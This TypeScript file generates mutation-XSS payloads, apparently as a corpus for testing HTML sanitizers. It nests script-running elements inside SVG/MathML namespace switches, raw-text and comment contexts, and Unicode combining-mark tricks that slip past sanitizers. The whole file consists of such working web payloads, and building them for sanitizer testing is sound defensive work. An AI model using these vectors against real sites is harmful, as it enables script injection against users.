import type { Vector } from './html-vectors.ts';

/** Elements that run a script once they are in the page. */
const PAYLOADS: readonly Vector[] = [
  code => `<img src=x onerror=${code}>`,
  code => `<svg onload=${code}>`,
  code => `<script>${code}</script>`,
  code => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
];
/** Elements in which a parser switches to another language, and back; `@` is the content. */
const NAMESPACES: readonly string[] = [
  '@',
  '<svg>@</svg>',
  '<math>@</math>',
  '<svg><foreignObject>@</foreignObject></svg>',
  '<svg><desc>@</desc></svg>',
  '<svg><title>@</title></svg>',
  '<svg></p>@',
  '<svg></br>@',
  '<math><mtext>@</mtext></math>',
  '<math><mi>@</mi></math>',
  // Formulas that would stay, but for what is in them.
  '<math><mrow><mi>a</mi>@</mrow></math>',
  '<math><mi>a</mi></math>@',
  '<math><mtext>a<mspace/>@</mtext></math>',
  '<math><mi>a</mi>@',
  '<math><mtext><malignmark>@',
  '<math><mi><mglyph>@</mglyph></mi></math>',
  '<math><semantics><mi>a</mi><annotation-xml encoding="text/html">@</annotation-xml></semantics></math>',
  '<math><semantics><mi>a</mi><annotation>@</annotation></semantics></math>',
  '<math><ms><![CDATA[@]]></ms></math>',
  '<math><mtable><mtr><mtd><math>@</math></mtd></mtr></mtable></math>',
  '<table><tr><math><mtr>@',
  '<svg><math><mi>@</mi></math></svg>',
  '<math><mtext><table><mglyph>@',
  '<math><mtext><mglyph><svg>@',
  '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
  '<math><annotation-xml>@</annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg>@',
  '<form><math><mtext></form><form><mglyph>@',
  '<form id=a><div></form><form id=b>@',
  '<table><tr><td><svg>@</table>',
  '<table>@</table>',
  '<table><caption><svg><p>@',
  '<select><option>@</select>',
  '<select><template>@',
  '<template>@</template>',
  '<template><svg>@</template>',
  '<a><svg><a>@',
  '<p><a><table><a>@',
  '<nobr><math><nobr>@',
  '<dl><dt><svg><dd>@',
  '<frameset><noframes>@',
  '<body><svg><body>@',
  '<details><summary><math>@',
  '<ruby><rtc><svg>@',
  '<picture><svg>@',
  '<b><i><u><s><svg></b>@',
];
/** Elements whose content is text to one parser and markup to another; `@` ends them from within. */
const TEXTS: readonly string[] = [
  '@',
  '<style>@',
  '<style><!--</style>@-->',
  '<style><a id="</style>@">',
  '<style><g title="</style>@"/>',
  '<noscript>@</noscript>',
  '<noscript><p title="</noscript>@">',
  '<noscript><style></noscript>@</style>',
  '<textarea>@</textarea>',
  '<textarea><a title="</textarea>@">',
  '<title><p title="</title>@">',
  '<xmp><p title="</xmp>@">',
  '<iframe><p title="</iframe>@">',
  '<noembed><p title="</noembed>@">',
  '<noframes><p title="</noframes>@">',
  '<plaintext>@',
  '<script><!--<script></script>@--></script>',
  '<![CDATA[@]]>',
  '<![CDATA[>@',
  '<!--@-->',
  '<!-->@-->',
  '<!--a--!>@-->',
  '<!-- <p title="-->@">',
  '<p title="--><!-- ">@',
  '<listing>\n@',
  '<pre>\n\n@',
  '<comment><p title="</comment>@">',
  '<?a "?>@">',
  '<!a ">@">',
  '<p id="a`b">@',
  '<p title="`>@`">x</p>',
  "<p title='\">@'>x</p>",
  '<p title="&quot;>@">x</p>',
  '<p title=">@',
  "<p title='>@",
  '<p title=a"b>@',
  '<a href="https://a.example/"title="x"onclick="y">@',
];

/** Characters that vanish, or move, when text is cleaned, so that a mark after them joins with the bracket before. */
const BETWEEN: readonly string[] = [
  ...['', '&#1;', '&#8;', '&#127;', '&#159;', '&#xFDD0;', '&#xFFFE;', '\u0001', '\u007f', '\ufffe'],
  ...['\u0323', '\u0301', '\u0323\u0301', '&#x323;', '&#1;\u0323&#1;'],
];
/** A mark that NFC joins with `>`, `<` and `=`, as a character and as its references. */
const JOINING: readonly string[] = ['\u0338', '&#x338;', '&#824;'];

/** An element whose tag ends only where the next one does, if its own bracket is joined with a mark. */
function joinedVectors(): readonly Vector[] {
  return BETWEEN.flatMap(between =>
    JOINING.flatMap((joining): Vector[] => [
      code => `<img src="x.png" alt="">${between}${joining} onerror=${code} <b>x</b>`,
      code => `<p><b>${between}${joining} tabindex=1 autofocus onfocus=${code} x</b></p>`,
      code => `<p>${between}${joining} style=x onanimationstart=${code}<i>y</i></p>`,
    ]),
  );
}

/**
 * Vectors that are other things to a parser that cleans than to a browser, or once they are written and read again
 * (mXSS).
 */
export function mutationVectors(): readonly Vector[] {
  const vectors: Vector[] = [...joinedVectors()];
  for (const [at, namespace] of NAMESPACES.entries()) {
    for (const [form, text] of TEXTS.entries()) {
      for (const payload of at % 3 === form % 3 ? PAYLOADS : PAYLOADS.slice(0, 2))
        vectors.push(code => namespace.replace('@', () => text.replace('@', () => quoted(payload(code), text))));
    }
  }
  return vectors;
}

/**
 * Within an attribute the browser sees markup if it was ended too early; what the attribute holds is the same either
 * way.
 */
function quoted(markup: string, text: string): string {
  return /="[^"]*@/.test(text) ? markup.replaceAll('"', "'") : markup;
}
